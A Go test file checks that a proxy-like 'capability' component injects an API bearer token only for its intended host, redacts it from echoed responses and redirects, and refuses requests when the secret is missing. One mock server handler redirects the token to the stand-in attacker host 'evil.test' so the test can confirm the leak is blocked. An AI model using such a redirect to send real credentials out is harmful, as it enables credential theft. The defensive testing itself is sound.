package capability

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

const token = `t0k"n/with+all=sorts&of<bytes>`

// leak finds a secret in what is kept or seen, in the forms in which it may travel.
func leak(s string) bool {
	quoted, _ := json.Marshal(token)
	for _, form := range []string{token, string(quoted[1 : len(quoted)-1]), url.QueryEscape(token), base64.StdEncoding.EncodeToString([]byte(token))} {
		if strings.Contains(s, form) {
			return true
		}
	}
	return false
}

func withSecret(host string, more ...Secret) Grants {
	g := anyway("example.com", "www.example.com", host)
	g.Secrets = append([]Secret{{Name: "API", Header: "authorization", Host: host, Format: "Bearer %s",
		Value: func(context.Context) (string, error) { return token + "\r\n", nil }}}, more...)
	return g
}

// A secret goes to its host, in its header, in place of the guest's own, and to no other host.
func TestSecretsGoWhereTheyShould(t *testing.T) {
	r := newHTTPRig(t)
	r.client.RootCAs = nil
	seen := map[string]string{}
	r.handler = func(w http.ResponseWriter, req *http.Request) {
		seen[req.Host+req.URL.Path] = req.Header.Get("Authorization")
		if req.URL.Path == "/away" {
			http.Redirect(w, req, "http://www.example.com/next", http.StatusFound)
		}
		if req.URL.Path == "/back" {
			http.Redirect(w, req, "http://example.com/home", http.StatusFound)
		}
	}
	reads := 0
	g := withSecret("example.com")
	value := g.Secrets[0].Value
	g.Secrets[0].Value = func(ctx context.Context) (string, error) { reads++; return value(ctx) }
	d := r.door(g)
	own := map[string]string{"AUTHORIZATION": "guest"}
	for _, u := range []string{"http://example.com/", "http://example.com/away", "http://www.example.com/", "http://www.example.com/back"} {
		if got := send(t, d, ask("GET", u, own), nil); got.status != 200 {
			t.Fatalf("%s: %+v", u, got)
		}
	}
	want := map[string]string{
		"example.com/": "Bearer " + token, "example.com/away": "Bearer " + token, "www.example.com/next": "", "www.example.com/": "guest",
		"www.example.com/back": "guest", "example.com/home": "Bearer " + token,
	}
	for at, header := range want {
		if seen[at] != header {
			t.Errorf("%s got %q, want %q", at, seen[at], header)
		}
	}
	if reads != 1 {
		t.Errorf("the secret was read %d times", reads)
	}
}

// A server that gives the secret back in any way does not give it to the guest, and nobody else gets to see it.
func TestSecretsAreNotSeen(t *testing.T) {
	r := newHTTPRig(t)
	r.client.RootCAs = nil
	r.handler = func(w http.ResponseWriter, req *http.Request) {
		got := strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer ")
		switch req.URL.Path {
		case "/echo":
			w.Header().Set("X-Echo", got)
			quoted, _ := json.Marshal(got)
			fmt.Fprintf(w, "plain %s, json %s, query %s, base64 %s, %s", got, quoted, url.QueryEscape(got),
				base64.StdEncoding.EncodeToString([]byte(got)), base64.RawURLEncoding.EncodeToString([]byte(got)))
		case "/redirect":
			http.Redirect(w, req, "http://example.com/?token="+url.QueryEscape(got), http.StatusFound)
		case "/elsewhere":
			http.Redirect(w, req, "http://"+"evil.test/"+url.PathEscape(got), http.StatusFound)
		case "/reset":
			panic(http.ErrAbortHandler)
		}
	}
	var calls strings.Builder
	d := NewDoor(Setup{Grants: withSecret("example.com"), State: NewState(nil, 0), HTTP: r.client,
		Progress: func(_ float64, text string) { calls.WriteString(text) }})
	for _, path := range []string{"/echo", "/redirect", "/elsewhere", "/reset", "/?" + url.QueryEscape(token)} {
		got := send(t, d, get("http://example.com"+path), nil)
		if all := fmt.Sprintf("%+v", got); leak(all) {
			t.Errorf("%s: the secret is in %s", path, all)
		}
	}
	if _, err := d.progress(t.Context(), []byte(fmt.Sprintf(`{"text":%q}`, token))); err != nil || calls.Len() == 0 {
		t.Fatal(err)
	}
	if all := calls.String() + fmt.Sprint(d.Refusals()); leak(all) {
		t.Errorf("the secret is in %s", all)
	}
	// The redaction itself changes nothing else.
	if got := send(t, d, get("http://example.com/echo"), nil); !strings.HasPrefix(got.body, "plain [secret], json \"[secret]\",") || got.header["x-echo"] != "[secret]" ||
		got.header["content-length"] != fmt.Sprint(len(got.body)) {
		t.Errorf("%+v", got)
	}
}

// A secret that cannot be had fails the request, which is not sent without it.
func TestSecretsThatCannotBeHad(t *testing.T) {
	for want, value := range map[string]func(context.Context) (string, error){
		"no such file":  func(context.Context) (string, error) { return "", errors.New("no such file") },
		"it is empty":   func(context.Context) (string, error) { return "\n", nil },
		"no source":     nil,
		"no header may": func(context.Context) (string, error) { return "two\nlines", nil },
	} {
		r := newHTTPRig(t)
		g := withSecret("example.com")
		g.Secrets[0].Value = value
		got := send(t, r.door(g), get("https://example.com/"), nil)
		if outer, _, _ := r.seen(); got.code != SecretMissing || !strings.Contains(got.note, want) || outer != 0 || strings.Contains(got.note, "lines") {
			t.Errorf("%+v, %d requests, want %q", got, outer, want)
		}
	}
}
